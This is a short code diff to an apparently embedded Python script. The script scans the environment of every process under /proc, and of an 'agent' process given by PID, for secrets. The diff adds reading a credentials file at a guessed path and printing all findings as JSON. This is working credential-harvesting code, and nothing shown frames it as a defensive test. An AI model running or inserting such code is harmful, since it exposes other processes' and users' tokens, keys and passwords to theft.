@@ -99,6 +99,11 @@ for entry in os.listdir('/proc'):    # every process in sight
     if entry.isdigit():
         found[f'/proc/{entry}'] = secrets_in(environ(entry))
 found['the agent by pid'] = secrets_in(environ(sys.argv[1]))
+try:                                 # a credentials file, its path guessed
+    with open(sys.argv[2]) as handle:
+        found['credentials file'] = [handle.read()]
+except OSError:
+    pass
 print(json.dumps({where: items for where, items in found.items() if items}))
 """
 
